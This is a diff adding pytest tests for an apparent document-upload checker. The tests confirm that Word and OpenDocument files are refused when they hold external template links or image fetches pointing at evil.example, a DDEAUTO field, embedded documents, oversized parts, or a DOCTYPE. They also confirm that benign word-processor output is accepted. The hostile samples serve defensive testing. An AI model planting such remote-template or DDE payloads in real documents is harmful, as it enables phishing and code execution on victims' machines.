@@ -132,6 +132,50 @@ def test_a_document_with_macros_is_refused(part):
     assert "macros" in fault("report.xlsx", files.xlsx({part: b"x"}))
 
 
+_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+_LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
+
+
+def _refers(kind: str, target: str) -> dict[str, bytes]:
+    line = f'<Relationship Id="r1" TargetMode="External" Type="{kind}" Target="{target}"/>'
+    return {"word/_rels/document.xml.rels": f"<Relationships>{line}</Relationships>".encode()}
+
+
+@pytest.mark.parametrize(
+    ("parts", "words"),
+    [
+        (_refers(_TEMPLATE, "https://evil.example/a.dotx"), "from elsewhere"),
+        (_refers(_TEMPLATE, "file://evil.example/share/a.dotx"), "from elsewhere"),
+        ({"word/_rels/a.rels": b" " * 1_100_000}, "too many things"),
+        ({"word/embeddings/run.docx": b"x"}, "another document inside"),
+        ({"word/a.xml": b'<w:instrText x="1"> DDEAUTO c:\\x'}, "DDE"),
+        ({"word/a.xml": b" " * 1_048_570 + b"<!DOCTYPE a>"}, "document type"),
+        ({"word/a.xml": "<a/>".encode("utf-16")}, "not written in UTF-8"),
+    ],
+)
+def test_a_document_that_fetches_or_unfolds_is_refused(parts, words):
+    assert words in fault("report.docx", files.docx(parts))
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        _refers(_LINK, "https://www.example.com/standard"),
+        _refers(_TEMPLATE, "file:///C:\\Users\\ann\\Normal.dotx"),
+        {"word/embeddings/Microsoft_Excel_Sheet.xlsx": b"x"},
+    ],
+)
+def test_what_word_processors_write_of_their_own_accord_is_let_in(parts):
+    assert fault("report.docx", files.docx(parts)) == ""
+
+
+def test_an_open_document_that_fetches_a_picture_is_refused():
+    picture = b'<draw:image xlink:href="https://evil.example/x.png"/>'
+    mimetype = b"application/vnd.oasis.opendocument.text"
+    evil = files.archive({"mimetype": mimetype, "content.xml": picture})
+    assert "from elsewhere" in fault("report.odt", evil)
+
+
 def test_a_zip_bomb_is_refused_without_being_unpacked():
     bomb = files.archive(
         {"[Content_Types].xml": b"", "word/document.xml": b"\0" * 210 * 1024 * 1024}
